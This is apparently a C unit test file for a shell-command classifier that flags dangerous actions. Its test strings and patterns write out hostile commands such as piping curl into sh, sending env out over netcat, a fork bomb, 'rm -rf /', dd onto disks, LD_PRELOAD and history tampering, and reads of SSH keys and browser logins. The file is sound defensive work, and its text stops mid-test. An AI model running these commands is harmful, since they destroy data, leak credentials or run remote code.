/* SPDX-License-Identifier: Apache-2.0 */
/* test_classify.c - action types, the catalogue loader (errors name the
 * pattern and the field), every construct of the match language on small
 * catalogues, and the shipped catalogue's coverage of the families. */
#define _GNU_SOURCE
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "classify.h"

#ifndef AIRLOCK_DATA_DIR
#error "AIRLOCK_DATA_DIR must be defined"
#endif
#define CATALOGUE AIRLOCK_DATA_DIR "/dangerous-actions.json"

/* --- helpers ------------------------------------------------------------------- */

static al_catalogue *load_json(const char *json) {
  al_catalogue *cat = NULL;
  airlock_error *err = NULL;
  if (al_catalogue_load_json(json, strlen(json), "test.json", &cat, &err) != 0)
    fail_msg("catalogue did not load: %s", err ? err->msg : "(no error)");
  return cat;
}

static void load_fails(const char *json, const char *want) {
  al_catalogue *cat = NULL;
  airlock_error *err = NULL;
  int r = al_catalogue_load_json(json, strlen(json), "test.json", &cat, &err);
  if (r == 0)
    fail_msg("catalogue loaded, wanted an error with '%s': %s", want, json);
  assert_null(cat);
  assert_non_null(err);
  if (strstr(err->msg, want) == NULL)
    fail_msg("error '%s' does not contain '%s'", err->msg, want);
  airlock_error_free(&err);
}

static al_classification classify(const al_catalogue *cat, const char *s) {
  al_classification c;
  airlock_error *err = NULL;
  if (al_classify(cat, s, &c, &err) != 0)
    fail_msg("al_classify(%s) failed: %s", s, err ? err->msg : "(no error)");
  return c;
}

static bool matched(const al_classification *c, const char *id) {
  for (size_t i = 0; i < c->n_matches; i++)
    if (strcmp(c->matches[i].id, id) == 0)
      return true;
  return false;
}

/* whether pattern id matches the command string */
static bool hits(const al_catalogue *cat, const char *s, const char *id) {
  al_classification c = classify(cat, s);
  bool r = matched(&c, id);
  al_classification_free(&c);
  return r;
}

#define HIT(cat, s, id)                                                                                                \
  do {                                                                                                                 \
    if (!hits(cat, s, id))                                                                                             \
      fail_msg("'%s' should match %s", s, id);                                                                         \
  } while (0)
#define MISS(cat, s, id)                                                                                               \
  do {                                                                                                                 \
    if (hits(cat, s, id))                                                                                              \
      fail_msg("'%s' should not match %s", s, id);                                                                     \
  } while (0)

/* a catalogue with one pattern "p" whose match is the given object */
static al_catalogue *one_pattern(const char *match) {
  char json[4096];
  snprintf(json, sizeof(json),
           "{\"sets\": {\"top\": [\"/\", \"/etc\"]},"
           " \"patterns\": [{\"id\": \"p\", \"description\": \"d\", \"severity\": \"high\", \"action\": "
           "\"system_command\", \"match\": %s}]}",
           match);
  return load_json(json);
}

/* --- names --------------------------------------------------------------------- */

static void test_action_names(void **state) {
  (void)state;
  const char *names[] = {"code_exec",   "system_command", "file_read", "file_write",
                         "file_delete", "http_get",       "http_post", "ssh_exec"};
  assert_int_equal(AL_ACTION_COUNT, 8);
  for (int i = 0; i < AL_ACTION_COUNT; i++) {
    assert_string_equal(al_action_name((al_action)i), names[i]);
    al_action a;
    assert_int_equal(al_action_from_name(names[i], &a), 0);
    assert_int_equal(a, i);
  }
  al_action a;
  assert_int_equal(al_action_from_name("file_exec", &a), -1);
  assert_null(al_action_name((al_action)99));
  assert_string_equal(al_severity_name(AL_SEVERITY_CRITICAL), "critical");
  assert_string_equal(al_severity_name(AL_SEVERITY_NONE), "none");
  assert_true(strstr(al_catalogue_default_path(), "airlock/dangerous-actions.json") != NULL);
}

/* --- globs ---------------------------------------------------------------------- */

static void test_globs(void **state) {
  (void)state;
  assert_true(al_glob_match("mkfs.*", "mkfs.ext4", false));
  assert_true(al_glob_match("python[0-9]*", "python3.12", false));
  assert_false(al_glob_match("python[0-9]*", "pythonic", false));
  assert_true(al_glob_match("[!a]x", "bx", false));
  assert_false(al_glob_match("[!a]x", "ax", false));
  assert_true(al_glob_match("*a*b*c", "xxaxxbxxc", false));
  assert_false(al_glob_match("*a*b*c", "xxaxxbxx", false));
  assert_true(al_glob_match("of=/dev/sd*", "of=/dev/sda1", false));
  assert_true(al_glob_match("[", "[", false)); /* an unclosed class is a literal */
  /* escapes: "\*" is a literal star */
  assert_true(al_glob_match("/\\*", "/*", true));
  assert_false(al_glob_match("/\\*", "/etc", true));
  /* path mode: * stays within a component, ** spans any number */
  assert_true(al_glob_match("/*", "/etc", true));
  assert_false(al_glob_match("/*", "/etc/passwd", true));
  assert_true(al_glob_match("/etc/**", "/etc", true));
  assert_true(al_glob_match("/etc/**", "/etc/ssh/sshd_config", true));
  assert_false(al_glob_match("/etc/**", "/etcetera", true));
  assert_true(al_glob_match("**/.env", ".env", true));
  assert_true(al_glob_match("**/.env", "a/b/.env", true));
  assert_true(al_glob_match("**/.env", "/srv/app/.env", true));
  assert_false(al_glob_match("**/.env", "a/.envrc", true));
  assert_true(al_glob_match("~/.mozilla/**/logins.json", "~/.mozilla/firefox/x.default/logins.json", true));
  assert_true(al_glob_match("~/.ssh/id_*", "~/.ssh/id_rsa", true));
  assert_false(al_glob_match("~/.ssh/id_*", "/root/.ssh/id_rsa", true));
  /* a path of many components */
  char deep[8192];
  size_t o = 0;
  for (int i = 0; i < 1000; i++)
    o += (size_t)snprintf(deep + o, sizeof(deep) - o, "/a");
  snprintf(deep + o, sizeof(deep) - o, "/.env");
  assert_true(al_glob_match("**/.env", deep, true));
}

/* --- loading ----------------------------------------------------------------------- */

#define PAT(match)                                                                                                     \
  "{\"patterns\": [{\"id\": \"x-1\", \"description\": \"d\", \"severity\": \"high\", "                                 \
  "\"action\": \"file_read\", \"match\": " match "}]}"

static void test_load_errors(void **state) {
  (void)state;
  load_fails("{", "test.json:1:");
  load_fails("[]", "must be a JSON object");
  load_fails("{\"version\": 2}", "version: must be 1");
  load_fails("{\"bogus\": 1}", "bogus: unknown key");
  load_fails(PAT("{\"command\": [\"rm\"], \"flagz\": [\"-r\"]}"), "pattern 'x-1': match.flagz: unknown key");
  load_fails(PAT("{\"command\": [\"rm\"], \"flags\": [7]}"), "pattern 'x-1': match.flags[0]: must be a string");
  load_fails(PAT("{\"flags\": [\"r\"]}"), "match.flags[0]: 'r' is not an option");
  load_fails(PAT("{\"arg_regex\": [\"(\"]}"), "pattern 'x-1': match.arg_regex[0]: bad regular expression");
  load_fails(PAT("{\"any\": [{\"path\": [\"@nope\"]}]}"), "match.any[0].path[0]: unknown set 'nope'");
  load_fails(PAT("{}"), "match: has no condition");
  load_fails(PAT("{\"command\": []}"), "match.command: is empty");
  load_fails(PAT("{\"redirect\": {\"dir\": \"up\", \"path\": \"/x\"}}"), "match.redirect.dir: must be");
  load_fails(PAT("{\"option\": {\"value\": [\"@*\"]}}"), "match.option: needs \"names\"");
  load_fails(PAT("{\"piped_into\": 1}"), "match.piped_into: must be true or false");
  load_fails(PAT("{\"not\": {\"not\": {\"not\": {\"not\": {\"not\": {\"not\": {\"not\": {\"arg\": [\"x\"]}}}}}}}}"),
             "nested deeper");
  load_fails("{\"patterns\": [{\"id\": \"a\", \"description\": \"d\", \"severity\": \"medium\", \"action\": "
             "\"file_read\", \"match\": {\"arg\": [\"x\"]}}]}",
             "pattern 'a': severity: must be \"high\" or \"critical\"");
  load_fails("{\"patterns\": [{\"id\": \"a\", \"description\": \"d\", \"severity\": \"high\", \"action\": "
             "\"file_exec\", \"match\": {\"arg\": [\"x\"]}}]}",
             "pattern 'a': action: 'file_exec' is not an action type");
  load_fails("{\"patterns\": [{\"id\": \"a\", \"severity\": \"high\", \"action\": \"file_read\", \"match\": {\"arg\": "
             "[\"x\"]}}]}",
             "pattern 'a': description: missing");
  load_fails("{\"patterns\": [{\"description\": \"d\"}]}", "pattern 0: id: missing");
  load_fails("{\"patterns\": [{\"id\": \"Bad Id\"}]}", "pattern 0: id: must be");
  load_fails(
      "{\"patterns\": ["
      "{\"id\": \"a\", \"description\": \"d\", \"severity\": \"high\", \"action\": \"file_read\", "
      "\"match\": {\"arg\": [\"x\"]}}, {\"id\": \"a\", \"description\": \"d\", \"severity\": \"high\", \"action\": "
      "\"file_read\", \"match\": {\"arg\": [\"x\"]}}]}",
      "pattern 'a': id: duplicate id");
  load_fails("{\"commands\": [{\"names\": [\"rm\"], \"action\": \"file_delete\", \"paths\": \"burn\"}]}",
             "command entry 0 (rm): paths: must be");
  load_fails("{\"commands\": [{\"names\": [\"rm\"]}]}", "command entry 0 (rm): action: missing");
  load_fails(
      "{\"commands\": [{\"names\": [\"rm\"], \"action\": \"file_delete\", \"when\": [{\"match\": {\"flagz\": 1}, "
      "\"action\": \"file_read\"}]}]}",
      "command entry 0 (rm): when[0].match.flagz: unknown key");
  load_fails("{\"commands\": [{\"names\": [\"rsync\"], \"action\": \"file_write\", \"dry_run\": {\"flagz\": 1}}]}",
             "command entry 0 (rsync): dry_run.flagz: unknown key");
  load_fails("{\"commands\": [{\"names\": [\"rsync\"], \"action\": \"file_write\", \"dry_run\": [1]}]}",
             "command entry 0 (rsync): dry_run: must be");
  load_fails("{\"sets\": {\"s\": [\"@t\"]}}", "sets cannot include sets");
  load_fails("{\"disable\": [\"nope\"]}", "disable: no pattern with id 'nope'");
  /* files */
  al_catalogue *cat = NULL;
  airlock_error *err = NULL;
  assert_int_equal(al_catalogue_load("/nonexistent/catalogue.json", &cat, &err), -1);
  assert_non_null(strstr(err->msg, "cannot open catalogue /nonexistent/catalogue.json: No such file"));
  airlock_error_free(&err);
}

static void test_merge(void **state) {
  (void)state;
  al_catalogue *cat = load_json(PAT("{\"command\": [\"cat\"], \"path\": [\"/secret\"]}"));
  assert_int_equal(al_catalogue_size(cat), 1);
  HIT(cat, "cat /secret", "x-1");
  airlock_error *err = NULL;
  /* a user file: replaces x-1, adds y, changes what cat does */
  const char *user =
      "{\"patterns\": ["
      "{\"id\": \"x-1\", \"description\": \"new\", \"severity\": \"critical\", \"action\": \"file_read\", "
      "\"match\": {\"command\": [\"cat\"], \"path\": [\"/other\"]}},"
      "{\"id\": \"y\", \"description\": \"d\", \"severity\": \"high\", \"action\": \"file_read\", "
      "\"match\": {\"command\": [\"tac\"]}}],"
      " \"commands\": [{\"names\": [\"cat\"], \"action\": \"file_write\"}]}";
  assert_int_equal(al_catalogue_add_json(cat, user, strlen(user), "user.json", &err), 0);
  assert_int_equal(al_catalogue_size(cat), 2);
  MISS(cat, "cat /secret", "x-1");
  HIT(cat, "cat /other", "x-1");
  al_classification c = classify(cat, "cat /other");
  assert_int_equal(c.severity, AL_SEVERITY_CRITICAL);
  assert_int_equal(c.seg_action[0], AL_ACTION_FILE_WRITE);
  al_classification_free(&c);
  /* switching a pattern off */
  const char *off = "{\"disable\": [\"y\"]}";
  assert_int_equal(al_catalogue_add_json(cat, off, strlen(off), "off.json", &err), 0);
  assert_int_equal(al_catalogue_size(cat), 1);
  MISS(cat, "tac x", "y");
  al_pattern_info info;
  assert_int_equal(al_catalogue_pattern(cat, 0, &info), 0);
  assert_string_equal(info.id, "x-1");
  assert_string_equal(info.description, "new");
  assert_int_equal(al_catalogue_pattern(cat, 1, &info), -1);
  /* a bad file changes nothing */
  const char *bad = "{\"disable\": [\"zzz\"], \"patterns\": [{\"id\": \"z\", \"description\": \"d\", \"severity\": "
                    "\"high\", \"action\": \"file_read\", \"match\": {\"command\": [\"ls\"]}}]}";
  assert_int_equal(al_catalogue_add_json(cat, bad, strlen(bad), "bad.json", &err), -1);
  airlock_error_free(&err);
  assert_int_equal(al_catalogue_size(cat), 1);
  MISS(cat, "ls", "z");
  al_catalogue_free(cat);
}

/* --- the match language --------------------------------------------------------------- */

static void test_match_command_and_flags(void **state) {
  (void)state;
  al_catalogue *cat = one_pattern("{\"command\": [\"rm\"], \"flags\": [\"-r|-R|--recursive\", \"-f|--force\"]}");
  const char *yes[] = {"rm -rf x",           "rm -fr x",      "rm -r -f x",    "rm -f -R x", "rm --recursive --force x",
                       "rm -v --force -r x", "/bin/rm -rf x", "sudo rm -rf x", "rm x -rf"};
  for (size_t i = 0; i < sizeof(yes) / sizeof(yes[0]); i++)
    HIT(cat, yes[i], "p");
  const char *no[] = {"rm -r x", "rm -f x", "rm -- -rf", "rmdir -rf x", "echo rm -rf", "rm --force-x -r y"};
  for (size_t i = 0; i < sizeof(no) / sizeof(no[0]); i++)
    MISS(cat, no[i], "p");
  al_catalogue_free(cat);
  /* a value-taking letter ends a cluster: -ofile has no f flag */
  cat = load_json("{\"commands\": [{\"names\": [\"tool\"], \"action\": \"file_read\", \"value_options\": [\"-o\"]}],"
                  " \"patterns\": [{\"id\": \"p\", \"description\": \"d\", \"severity\": \"high\", \"action\": "
                  "\"file_read\", \"match\": {\"command\": [\"tool\"], \"flags\": [\"-f\"]}}]}");
  MISS(cat, "tool -ofile", "p");
  HIT(cat, "tool -fo file", "p");
  MISS(cat, "tool -o -f", "p"); /* -f is -o's value */
  al_catalogue_free(cat);
  cat = one_pattern("{\"command\": [\"mkfs*\", \"!mkfs.vfat\"], \"flags_absent\": [\"-n|--dry-run\"]}");
  HIT(cat, "mkfs.ext4 /dev/x", "p");
  MISS(cat, "mkfs.vfat /dev/x", "p");
  MISS(cat, "mkfs -n /dev/x", "p");
  al_catalogue_free(cat);
  cat = one_pattern("{\"command_not\": [\"ls\"], \"wrapper\": [\"sudo\"]}");
  HIT(cat, "sudo cat x", "p");
  MISS(cat, "sudo ls", "p");
  MISS(cat, "cat x", "p");
  al_catalogue_free(cat);
  cat = one_pattern("{\"command\": [\"find\"], \"flags\": [\"-delete\"]}"); /* single-dash words match whole */
  HIT(cat, "find . -delete", "p");
  MISS(cat, "find . -d -e -l -t", "p");
  al_catalogue_free(cat);
}

static void test_match_args_and_options(void **state) {
  (void)state;
  al_catalogue *cat = one_pattern("{\"command\": [\"git\"], \"subcommand\": [\"push\"], \"arg\": [\"+*\"]}");
  HIT(cat, "git push origin +main", "p");
  MISS(cat, "git push origin main", "p");
  MISS(cat, "git status +x", "p");
  al_catalogue_free(cat);
  cat = one_pattern("{\"command\": [\"curl\"], \"option\": {\"names\": \"-d|--data\", \"value\": [\"@*\"]}}");
  HIT(cat, "curl -d @f u", "p");
  HIT(cat, "curl --data @f u", "p");
  HIT(cat, "curl --data=@f u", "p");
  HIT(cat, "curl -d@f u", "p");
  HIT(cat, "curl -sd @f u", "p");
  MISS(cat, "curl -d x=1 u", "p");
  MISS(cat, "curl -d", "p");
  al_catalogue_free(cat);
  cat = one_pattern("{\"option\": {\"names\": \"-X\", \"value_regex\": [\"(?i)^post$\"]}}");
  HIT(cat, "curl -X post u", "p");
  HIT(cat, "curl -XPOST u", "p");
  MISS(cat, "curl -X GET u", "p");
  al_catalogue_free(cat);
  cat = one_pattern("{\"command\": [\"kill\"], \"argline_regex\": [\"(^|[[:space:]])-1$\"]}");
  HIT(cat, "kill -9 -1", "p");
  HIT(cat, "kill -- -1", "p");
  MISS(cat, "kill -1 123", "p");
  al_catalogue_free(cat);
  cat = one_pattern("{\"command\": [\"dd\"], \"arg_regex\": [\"^of=/dev/sd\"]}");
  HIT(cat, "dd if=x of=/dev/sda", "p");
  MISS(cat, "dd if=/dev/sda of=x", "p");
  al_catalogue_free(cat);
  cat = one_pattern("{\"command\": [\"env\"], \"no_positionals\": true}");
  HIT(cat, "env", "p");
  HIT(cat, "env -0", "p");
  MISS(cat, "env A=1 ls", "p"); /* env is a wrapper there */
  al_catalogue_free(cat);
}

static void test_match_paths(void **state) {
  (void)state;
  al_catalogue *cat =
      one_pattern("{\"command\": [\"rm\"], \"path\": [\"@top\", \"~/.ssh/**\", \"!~/.ssh/known_hosts\"]}");
  const char *yes[] = {"rm -rf /",
                       "rm /etc",
                       "rm //",
                       "rm /etc/",
                       "rm /tmp/../etc",
                       "rm '/'",
                       "rm ~/.ssh/id_rsa",
                       "rm $HOME/.ssh",
                       "rm /root/.ssh/x",
                       "rm /home/bob/.ssh/x",
                       "cd /tmp && cd .. && rm etc",
                       "cd / ; rm etc",
                       "cd ~/.ssh && rm config"};
  for (size_t i = 0; i < sizeof(yes) / sizeof(yes[0]); i++)
    HIT(cat, yes[i], "p");
  const char *no[] = {"rm /etc/passwd", "rm etc",  "rm ~/.ssh/known_hosts", "rm /root/.sshx", "cd $X && rm etc",
                      "rm ./etc",       "cat /etc"};
  for (size_t i = 0; i < sizeof(no) / sizeof(no[0]); i++)
    MISS(cat, no[i], "p");
  al_catalogue_free(cat);
  /* read_path: sources and < ; write_path: destinations and > */
  cat = load_json("{\"commands\": ["
                  "{\"names\": [\"cp\"], \"action\": \"file_write\", \"paths\": \"copy\"},"
                  "{\"names\": [\"tee\"], \"action\": \"file_write\", \"paths\": \"write\"},"
                  "{\"names\": [\"rm\"], \"action\": \"file_delete\", \"paths\": \"delete\"},"
                  "{\"names\": [\"dd\"], \"action\": \"file_write\", \"paths\": \"none\", "
                  "\"operands\": {\"if\": \"read\", \"of\": \"write\"}},"
                  "{\"names\": [\"curl\"], \"action\": \"http_get\", \"value_options\": [\"-o\", \"-d\"], "
                  "\"write_options\": [\"-o\"]}],"
                  " \"patterns\": ["
                  "{\"id\": \"r\", \"description\": \"d\", \"severity\": \"high\", \"action\": \"file_read\", "
                  "\"match\": {\"read_path\": [\"/s\"]}},"
                  "{\"id\": \"w\", \"description\": \"d\", \"severity\": \"high\", \"action\": \"file_write\", "
                  "\"match\": {\"write_path\": [\"/s\"]}},"
                  "{\"id\": \"any\", \"description\": \"d\", \"severity\": \"high\", \"action\": \"file_write\", "
                  "\"match\": {\"path\": [\"/s\"]}},"
                  "{\"id\": \"redir\", \"description\": \"d\", \"severity\": \"high\", \"action\": \"file_write\", "
                  "\"match\": {\"redirect\": {\"dir\": \"out\", \"path\": [\"/s\"]}}}]}");
  const struct {
    const char *cmd;
    bool r, w, any, redir;
  } t[] = {
      {"cat /s", true, false, true, false},         {"cp /s /d", true, false, true, false},
      {"cp /d /s", false, true, true, false},       {"tee /s", false, true, true, false},
      {"echo x > /s", false, true, false, true},    {"wc < /s", true, false, false, false},
      {"rm /s", false, false, true, false},         {"ls /s", true, false, true, false},
      {"dd if=/s of=/d", true, false, true, false}, {"dd if=/d of=/s", false, true, true, false},
      {"curl -o /s u", false, true, true, false},   {"curl -d @/s u", true, false, true, false},
      {"x --file=/s", true, false, true, false},    {"cat <> /s", true, true, false, true},
  };
  for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
    al_classification c = classify(cat, t[i].cmd);
    if (matched(&c, "r") != t[i].r || matched(&c, "w") != t[i].w || matched(&c, "any") != t[i].any ||
        matched(&c, "redir") != t[i].redir)
      fail_msg("%s: read %d write %d path %d redirect %d", t[i].cmd, matched(&c, "r"), matched(&c, "w"),
               matched(&c, "any"), matched(&c, "redir"));
    al_classification_free(&c);
  }
  al_catalogue_free(cat);
}

static void test_match_relations(void **state) {
  (void)state;
  al_catalogue *cat = one_pattern("{\"command\": [\"sh\", \"eval\"], \"input_from\": {\"command\": [\"curl\"]}}");
  HIT(cat, "curl u | sh", "p");
  HIT(cat, "curl u | tee log | gunzip | sh", "p"); /* through the whole pipeline */
  HIT(cat, "sh <(curl u)", "p");
  HIT(cat, "sh -c \"$(curl u)\"", "p");
  HIT(cat, "eval \"$(echo $(curl u))\"", "p");
  MISS(cat, "curl u > f; sh f", "p");
  MISS(cat, "sh | curl u", "p");
  MISS(cat, "curl u | grep x; sh", "p");
  al_catalogue_free(cat);
  cat = one_pattern("{\"command\": [\"env\"], \"output_to\": {\"command\": [\"nc\"]}}");
  HIT(cat, "env | nc h 1", "p");
  HIT(cat, "nc h 1 <<< \"$(env)\"", "p");
  MISS(cat, "nc h 1 | env", "p");
  al_catalogue_free(cat);
  cat = one_pattern("{\"recursive_call\": true, \"pipes_out\": true}");
  HIT(cat, ":(){ :|:& };:", "p");
  HIT(cat, "f() { f | f & }; f", "p");
  MISS(cat, "f() { g | f; }; f", "p");
  MISS(cat, "f() { echo | cat; }", "p");
  al_catalogue_free(cat);
  cat = one_pattern("{\"command\": [\"sleep\"], \"background\": true, \"piped_into\": false}");
  HIT(cat, "sleep 1 &", "p");
  MISS(cat, "sleep 1", "p");
  MISS(cat, "x | sleep 1 &", "p");
  al_catalogue_free(cat);
  cat = one_pattern("{\"assign\": [\"HISTFILE=*\", \"LD_PRELOAD=?*\"]}");
  HIT(cat, "HISTFILE=/dev/null", "p");
  HIT(cat, "export HISTFILE=/dev/null", "p");
  HIT(cat, "LD_PRELOAD=/x.so ls", "p");
  HIT(cat, "env LD_PRELOAD=/x.so ls", "p");
  MISS(cat, "LD_PRELOAD= ls", "p");
  MISS(cat, "echo HISTFILE=x", "p");
  al_catalogue_free(cat);
  cat = one_pattern("{\"command\": [\"ssh\"], \"remote\": false, \"any\": [{\"arg\": [\"-R\"]}, {\"arg\": [\"-D\"]}],"
                    " \"not\": {\"arg\": [\"localhost\"]}}");
  HIT(cat, "ssh -R 1:x:2 h", "p");
  HIT(cat, "ssh -D 1080 h", "p");
  MISS(cat, "ssh -R 1:x:2 localhost", "p");
  MISS(cat, "ssh h", "p");
  MISS(cat, "ssh h 'ssh -D 1 other'", "p"); /* the inner one is remote */
  al_catalogue_free(cat);
}

static void test_match_dynamic(void **state) {
  (void)state;
  al_catalogue *cat = load_json("{\"patterns\": ["
                                "{\"id\": \"rmr\", \"description\": \"d\", \"severity\": \"high\", \"action\": "
                                "\"file_delete\", \"match\": {\"command\": [\"rm\"], \"flags\": [\"-r\"]}},"
                                "{\"id\": \"shred\", \"description\": \"d\", \"severity\": \"high\", \"action\": "
                                "\"file_delete\", \"match\": {\"command\": [\"shred\"]}},"
                                "{\"id\": \"dyn\", \"description\": \"d\", \"severity\": \"high\", \"action\": "
                                "\"code_exec\", \"match\": {\"dynamic\": true}}]}");
  /* an unknown command word matches command lists through the other conditions only */
  al_classification c = classify(cat, "$X -r y");
  assert_true(matched(&c, "rmr"));
  assert_false(matched(&c, "shred"));
  assert_true(matched(&c, "dyn"));
  assert_true(c.dynamic);
  al_classification_free(&c);
  c = classify(cat, "$EDITOR notes.txt");
  assert_false(matched(&c, "rmr"));
  assert_false(matched(&c, "shred"));
  al_classification_free(&c);
  al_catalogue_free(cat);
  /* negative conditions are no evidence: an unknown program is not "mkfs without -n" */
  cat = one_pattern("{\"command\": [\"mkfs\"], \"flags_absent\": [\"-n\"], \"not\": {\"arg\": [\"x\"]},"
                    " \"any\": [{\"arg\": [\"/dev/*\"]}, {\"no_positionals\": false}]}");
  MISS(cat, "$TOOL notes.txt", "p");
  HIT(cat, "mkfs notes.txt", "p");
  al_catalogue_free(cat);
  cat = load_json("{\"patterns\": [{\"id\": \"rmr\", \"description\": \"d\", \"severity\": \"high\", "
                  "\"action\": \"file_delete\", \"match\": {\"command\": [\"rm\"], \"flags\": [\"-r\"]}},"
                  "{\"id\": \"dyn\", \"description\": \"d\", \"severity\": \"high\", \"action\": "
                  "\"code_exec\", \"match\": {\"dynamic\": true}}]}");
  /* a resolved one is just the command */
  c = classify(cat, "X=rm; $X -r y");
  assert_true(matched(&c, "rmr"));
  assert_false(matched(&c, "dyn"));
  assert_false(c.dynamic);
  al_classification_free(&c);
  al_catalogue_free(cat);
}

/* --- action types ------------------------------------------------------------------------ */

static void test_segment_actions(void **state) {
  (void)state;
  al_catalogue *cat = NULL;
  airlock_error *err = NULL;
  if (al_catalogue_load(CATALOGUE, &cat, &err) < 0)
    fail_msg("%s", err->msg);
  const struct {
    const char *cmd;
    al_action want;
  } t[] = {
      {"python3 app.py", AL_ACTION_CODE_EXEC},
      {"node x.js", AL_ACTION_CODE_EXEC},
      {"ruby x.rb", AL_ACTION_CODE_EXEC},
      {"perl -e 1", AL_ACTION_CODE_EXEC},
      {"bash script.sh", AL_ACTION_CODE_EXEC},
      {"gcc -c x.c", AL_ACTION_CODE_EXEC},
      {"make", AL_ACTION_CODE_EXEC},
      {"./run.sh", AL_ACTION_CODE_EXEC},
      {"tools/gen --all", AL_ACTION_CODE_EXEC},
      {"rm x", AL_ACTION_FILE_DELETE},
      {"rmdir d", AL_ACTION_FILE_DELETE},
      {"unlink f", AL_ACTION_FILE_DELETE},
      {"shred f", AL_ACTION_FILE_DELETE},
      {"find . -delete", AL_ACTION_FILE_DELETE},
      {"cp a b", AL_ACTION_FILE_WRITE},
      {"mv a b", AL_ACTION_FILE_WRITE},
      {"tee f", AL_ACTION_FILE_WRITE},
      {"touch f", AL_ACTION_FILE_WRITE},
      {"mkdir d", AL_ACTION_FILE_WRITE},
      {"echo x > f", AL_ACTION_FILE_WRITE},
      {"grep x f >> out", AL_ACTION_FILE_WRITE},
      {"> f", AL_ACTION_FILE_WRITE},
      {"echo x > /dev/null", AL_ACTION_SYSTEM_COMMAND},
      {"sed -i s/a/b/ f", AL_ACTION_FILE_WRITE},
      {"cat f", AL_ACTION_FILE_READ},
      {"less f", AL_ACTION_FILE_READ},
      {"head f", AL_ACTION_FILE_READ},
      {"grep -r x .", AL_ACTION_FILE_READ},
      {"curl https://x", AL_ACTION_HTTP_GET},
      {"curl -o f https://x", AL_ACTION_HTTP_GET},
      {"curl -d a=1 https://x", AL_ACTION_HTTP_POST},
      {"curl --data-binary @f u", AL_ACTION_HTTP_POST},
      {"curl -F f=@x u", AL_ACTION_HTTP_POST},
      {"curl -T f u", AL_ACTION_HTTP_POST},
      {"curl -X POST u", AL_ACTION_HTTP_POST},
      {"curl -XPUT u", AL_ACTION_HTTP_POST},
      {"curl -X GET u", AL_ACTION_HTTP_GET},
      {"wget u", AL_ACTION_HTTP_GET},
      {"wget --post-data=a u", AL_ACTION_HTTP_POST},
      {"ssh host", AL_ACTION_SSH_EXEC},
      {"ssh host ls", AL_ACTION_SSH_EXEC},
      {"scp a host:b", AL_ACTION_SSH_EXEC},
      {"rsync -a x host:y", AL_ACTION_SSH_EXEC},
      {"rsync -a x y", AL_ACTION_FILE_WRITE},
      {"git push", AL_ACTION_HTTP_POST},
      {"git clone u", AL_ACTION_HTTP_GET},
      {"git status", AL_ACTION_FILE_READ},
      {"git commit -m x", AL_ACTION_FILE_WRITE},
      {"ls", AL_ACTION_FILE_READ},
      {"echo hi", AL_ACTION_SYSTEM_COMMAND},
      {"frobnicate --all", AL_ACTION_SYSTEM_COMMAND},
      {"$X y", AL_ACTION_SYSTEM_COMMAND},
      {"X=1", AL_ACTION_SYSTEM_COMMAND},
      {"npm publish", AL_ACTION_HTTP_POST},
      {"docker build .", AL_ACTION_CODE_EXEC},
      {"docker ps", AL_ACTION_SYSTEM_COMMAND},
      {"nc -l 8080", AL_ACTION_SYSTEM_COMMAND},
      {"nc h 80", AL_ACTION_HTTP_POST},
  };
  for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
    al_classification c = classify(cat, t[i].cmd);
    if (c.seg_action[0] != t[i].want)
      fail_msg("%s: %s, want %s", t[i].cmd, al_action_name(c.seg_action[0]), al_action_name(t[i].want));
    assert_int_equal(c.primary, t[i].want);
    al_classification_free(&c);
  }
  al_catalogue_free(cat);
}

static void test_unknown_commands_quiet(void **state) {
  (void)state;
  al_catalogue *cat = NULL;
  airlock_error *err = NULL;
  if (al_catalogue_load(CATALOGUE, &cat, &err) < 0)
    fail_msg("%s", err->msg);
  const char *quiet[] = {"$EDITOR notes.txt", "\"$PYTHON\" -m pytest", "${CC} -o x x.c", "$X | $Y",
                         "$(which node) app.js"};
  for (size_t i = 0; i < sizeof(quiet) / sizeof(quiet[0]); i++) {
    al_classification c = classify(cat, quiet[i]);
    if (c.n_matches)
      fail_msg("%s matched %s", quiet[i], c.matches[0].id);
    al_classification_free(&c);
  }
  al_catalogue_free(cat);
}

static void test_classification_summary(void **state) {
  (void)state;
  al_catalogue *cat = NULL;
  airlock_error *err = NULL;
  if (al_catalogue_load(CATALOGUE, &cat, &err) < 0)
    fail_msg("%s", err->msg);
  /* the benchmark string: five segments, no danger */
  al_classification c = classify(cat, "cd /workspace && npm ci && npm test | tee log.txt; rm -rf ./dist");
  assert_int_equal(c.shell.n, 5);
  assert_int_equal(c.n_matches, 0);
  assert_int_equal(c.severity, AL_SEVERITY_NONE);
  assert_int_equal(c.actions, AL_ACTION_BIT(AL_ACTION_SYSTEM_COMMAND) | AL_ACTION_BIT(AL_ACTION_CODE_EXEC) |
                                  AL_ACTION_BIT(AL_ACTION_FILE_WRITE) | AL_ACTION_BIT(AL_ACTION_FILE_DELETE));
  assert_int_equal(c.primary, AL_ACTION_FILE_DELETE);
  al_classification_free(&c);
  /* a shell running a known string is transparent: its commands speak for it */
  c = classify(cat, "bash -c 'cat README.md'");
  assert_int_equal(c.actions, AL_ACTION_BIT(AL_ACTION_FILE_READ));
  al_classification_free(&c);
  /* remote commands do not count as local actions, but their danger does */
  c = classify(cat, "ssh build@ci 'rm -rf /'");
  assert_int_equal(c.actions, AL_ACTION_BIT(AL_ACTION_SSH_EXEC));
  assert_true(matched(&c, "rm-recursive-root"));
  assert_int_equal(c.severity, AL_SEVERITY_CRITICAL);
  assert_int_equal(c.matches[0].segment, 1);
  assert_int_equal(c.matches[0].action, AL_ACTION_FILE_DELETE);
  al_classification_free(&c);
  /* several patterns, highest severity wins; matches in segment order */
  c = classify(cat, "git push -f; rm -rf ~");
  assert_true(c.n_matches >= 2);
  assert_string_equal(c.matches[0].id, "git-force-push");
  assert_int_equal(c.severity, AL_SEVERITY_CRITICAL);
  al_classification_free(&c);
  /* unknown and unreadable code is reported */
  c = classify(cat, "$TOOL --x; sh -c \"$CODE\"");
  assert_true(c.dynamic);
  assert_true(c.opaque);
  al_classification_free(&c);
  /* an empty string is no action */
  c = classify(cat, "");
  assert_int_equal(c.actions, 0);
  assert_int_equal(c.primary, AL_ACTION_SYSTEM_COMMAND);
  al_classification_free(&c);
  /* malformed strings fail and leave nothing behind */
  assert_int_equal(al_classify(cat, "echo 'oops", &c, &err), -1);
  assert_non_null(strstr(err->msg, "unterminated single quote"));
  assert_null(c.matches);
